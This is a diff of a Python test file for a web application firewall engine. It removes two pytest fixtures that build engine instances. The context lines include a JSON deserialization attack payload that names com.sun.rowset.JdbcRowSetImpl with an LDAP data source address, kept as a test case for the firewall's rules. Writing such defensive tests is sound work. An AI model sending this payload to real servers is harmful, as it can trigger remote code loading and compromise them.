@@ -15,11 +15,6 @@ from tests.waf.test_engine import _need_library
 HEADERS = [("Host", "shop.example.test"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")]
 
 
-@pytest.fixture(scope="module")
-def waf() -> Engine:
-    _need_library()
-    return Engine(text=assemble(WafSettings()))
-
 
 def _query(value: str, name: str = "q") -> Request:
     return Request("GET", f"/search?{quote(name)}={quote(value)}", HEADERS)
@@ -371,11 +366,6 @@ REMOVED = [
      _json('{"b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://198.51.100.7/x"}}')),
 ]
 
-
-@pytest.fixture(scope="module")
-def plain() -> Engine:
-    _need_library()
-    return Engine(text=assemble(WafSettings(own_rules=False)))
 
 
 @pytest.mark.parametrize(("rule", "honest", "attack"), REMOVED, ids=[str(r) for r, _, _ in REMOVED])
